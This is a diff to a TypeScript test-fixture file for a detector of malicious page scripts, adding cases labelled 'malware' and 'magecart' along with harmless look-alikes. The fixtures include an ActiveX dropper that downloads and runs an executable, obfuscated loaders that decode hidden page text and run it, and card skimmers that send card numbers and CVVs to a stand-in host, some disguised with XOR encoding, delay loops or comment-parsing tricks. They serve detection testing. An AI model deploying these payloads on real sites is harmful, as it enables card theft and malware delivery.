@@ -2,7 +2,7 @@
 // verdicts, and harmless ones that share a method with them. They are inert: none of them is ever run, and the hosts do
 // not exist.
 import type { HonestCase } from './honest-scripts.cases.ts'
-import type { ScriptCase } from './score-script.cases.ts'
+import { base64, type ScriptCase } from './score-script.cases.ts'
 
 const FRAME = `document.write('<iframe src="http://a.example.net/x" width=1 height=1 style="visibility:hidden"></iframe>')`
 const DROPPER = `var s=new ActiveXObject('WScript.Shell'),x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://a.example.net/1.exe',false);x.send();var b=new ActiveXObject('ADODB.Stream');b.open();b.type=1;b.write(x.responseBody);b.saveToFile('1.exe',2);s.Run('1.exe',0,0)`
@@ -21,6 +21,16 @@ const BY_KEY = `function n(t){var v=t['char'+'CodeAt'](0);return isNaN(v)?0:v}fu
 const BY_COLUMNS = `function d(s,k){var o='',p=k.split('').map(function(c){return k.split('').sort().indexOf(c)});for(var i=0;i<s.length;i+=k.length){var l=s['sub'+'str'](i,k.length)['spl'+'it']('');for(var j=0;j<k.length;j++)o+=l[p[j]]}return o}`
 const TEXT = `document['get'+'ElementById']('q7')['inner'+'HTML']`
 
+/** Decodes the text of the page, or what a field of it has, and runs it. */
+const RUNS_DECODED = `${DECODE};var n=document['create'+'Element']('scr'+'ipt');n.text=d(${TEXT}.replace(/-/g,'/'));document.body.appendChild(n)`
+const RUNS_FIELD = RUNS_DECODED.replace(`['inner'+'HTML']`, '.value')
+const ENCODED = 'qb3-'.repeat(100)
+const CARD_SENT = `var a=document.querySelector('#cc_number').value+document.querySelector('#cc_cvv').value;new Image().src='https://collect.example.org/?'+a;`
+/** Longer than what is analyzed as a whole. */
+const PROSE = '<p>some words of an article</p>'.repeat(12_000)
+const pageWith = (script: string, text = ENCODED): string =>
+  `<!doctype html><p id="q7">${text}</p><script>${script}</script>`
+
 const TYPED = `{n:document.querySelector('#cc_number').value,c:document.querySelector('#cc_cvv').value}`
 const SENDS = `(d=>navigator.sendBeacon('https://collect.example.org/c',JSON.stringify(d)))`
 const AT_ORDER = (statements: string): string =>
@@ -29,8 +39,77 @@ const AT_ORDER = (statements: string): string =>
 export const DECODED_PAGE_CASES: readonly ScriptCase[] = [
   {
     name: 'text of the page, decoded by a loop and run as a script',
-    source: `${DECODE};var n=document['create'+'Element']('scr'+'ipt');n.text=d(${TEXT}.replace(/-/g,'/'));document.body.appendChild(n)`,
+    source: RUNS_DECODED,
     head: 'malware',
+  },
+  ...[
+    ['that has the text', pageWith(RUNS_DECODED)],
+    [
+      'that begins with a field that has the text',
+      `<input id="q7" type="hidden" value="${ENCODED}"><script>${RUNS_FIELD}</script>`,
+    ],
+    [
+      'that a script writes',
+      `document.write('<p id="q7">${ENCODED}</p><script>'+${JSON.stringify(RUNS_DECODED)}+'</scr'+'ipt>')`,
+    ],
+    [
+      'that a script writes in two parts',
+      `document.write('<p id="q7">${ENCODED}</p>');document.write('<script>'+${JSON.stringify(RUNS_DECODED)}+'</scr'+'ipt>')`,
+    ],
+    ['with a listener', pageWith(`${RUNS_DECODED};document.addEventListener('click',function(){var a=1})`)],
+    [
+      'with a listener in another script',
+      `<!doctype html><script>document.addEventListener('click',function(){var a=1})</script><script>${RUNS_DECODED}</script>`,
+    ],
+    ['by a timer with a text', pageWith(`setTimeout(${JSON.stringify(RUNS_DECODED)},1)`)],
+    [
+      'by a script that the page writes',
+      pageWith(`document.write('<script>'+${JSON.stringify(RUNS_DECODED)}+'</scr'+'ipt>')`),
+    ],
+    ['with a short text', pageWith(RUNS_DECODED, 'qb3-'.repeat(20))],
+    ['whose text stands around another element', pageWith(RUNS_DECODED, `qb3-<b></b>${ENCODED}`)],
+    [
+      'behind a comment that ends with an exclamation mark',
+      `<!doctype html><script>var a=1</script><!-- a --!>${pageWith(RUNS_DECODED)}`,
+    ],
+    ['that begins with the end of an element', `</title>${pageWith(RUNS_DECODED)}`],
+    ['behind a long text', pageWith(`${RUNS_DECODED}`, `${ENCODED}</p>${'<p>some words'.repeat(30_000)}`)],
+  ].map(([which, source = '']): ScriptCase => ({
+    name: `text of a page ${which}, decoded and run`,
+    source,
+    head: 'malware',
+  })),
+  {
+    name: 'text of a page that only the second run decodes, behind a loop over the text, written as a script',
+    source: `<p id="q">${'ab'.repeat(300)}</p><script>var t=document.getElementById('q').innerHTML;${'var n=t.length*1e7;for(var i=0;i<n;i++){x=t.charCodeAt(i%9)+i};'.repeat(40)}var o='',e=${JSON.stringify([...`<script>${CARD_SENT}</script>`].map((c) => c.charCodeAt(0) ^ 7))};for(var k=0;k<e.length;k++)o+=String.fromCharCode(e[k]^7);document.write(o)</script>`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card behind much code that only the second run finds',
+    source: `<p id="q">a</p><script>var t=document.getElementById('q').innerHTML;for(var j=0;j<45;j++){if(t==='a')break;setTimeout('window.jj'+j+'='+j+'12345')}var o='',e=${JSON.stringify([...CARD_SENT].map((c) => c.charCodeAt(0) ^ 7))};for(var k=0;k<e.length;k++)o+=String.fromCharCode(e[k]^7);setTimeout(o)</script>`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card in text of a page that is long',
+    source: `<p id="q7">${base64(CARD_SENT)}</p><script>eval(atob(document.getElementById('q7').innerHTML))</script>${PROSE}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a card by a handler in a page that is long',
+    source: `<input id="cc_number" name="cardnumber" onchange="navigator.sendBeacon('https://collect.example.org/?'+this.value)">${PROSE}`,
+    head: 'magecart',
+  },
+  ...['<br />\n<b>Warning</b>: Undefined variable\n', '<any>window.a=1;\n'].flatMap((start) =>
+    ['', `\nel.innerHTML='<a onclick="go()">x</a>'`].map((end): ScriptCase => ({
+      name: `a card in a broken script that begins with ${start.slice(0, 5)}${end === '' ? '' : ', with markup in a string'}`,
+      source: `${start}${CARD_SENT}${end}`,
+      head: 'magecart',
+    })),
+  ),
+  {
+    name: 'a card behind a comment that goes on',
+    source: `<!doctype html><!--!><script>/*--><script>${CARD_SENT}</script>`,
+    head: 'magecart',
   },
   {
     name: 'text of the page, found by a pattern',
@@ -261,6 +340,26 @@ export const DECODED_PAGE_CASES: readonly ScriptCase[] = [
 ]
 
 export const HONEST_DECODED_PAGES: readonly HonestCase[] = [
+  {
+    name: 'an explanation of skimmers, with their code',
+    source: `<h2>How card skimmers work</h2><pre><code>document.querySelector('form').addEventListener('submit',function(){${CARD_SENT}})</code></pre><button onclick="history.back()">Back</button>`,
+  },
+  {
+    name: 'an article with the code of a skimmer, and a script',
+    source: `<article><pre>${CARD_SENT}</pre><script>document.querySelector('pre').classList.add('light')</script>`,
+  },
+  {
+    name: 'a library that shows what to avoid',
+    source: `el.innerHTML='<h3>What to avoid</h3><pre>setInterval(function(){fetch("https://collect.example.org/?"+localStorage.getItem("t")+document.cookie)},100)</pre><button onclick="closeHelp()">x</button>'`,
+  },
+  {
+    name: 'a page that counts the words of its long text',
+    source: `<!doctype html><p id="t">${'some words of an article '.repeat(20)}</p><script>var t=document.getElementById('t').textContent;document.title=t.split(' ').length+' words'</script>`,
+  },
+  {
+    name: 'a page whose state is encoded in an attribute',
+    source: `<div id="app" data-state="${base64(JSON.stringify({ items: Array(40).fill('item') }))}"></div><script>window.state=JSON.parse(atob(document.getElementById('app').dataset.state));document.write('<ul>'+state.items.map(function(i){return'<li>'+i}).join('')+'</ul>')</script>`,
+  },
   {
     name: 'a template of the page, compiled character by character',
     source: `function compile(id){var t=document.getElementById(id).innerHTML,o="var p=[];with(d){p.push('";for(var i=0;i<t.length;i++){var c=t.charAt(i);o+=c==='\\n'?'\\\\n':c}return new Function('d',o+"')}return p.join('')")}document.body.innerHTML=compile('row')({})`,
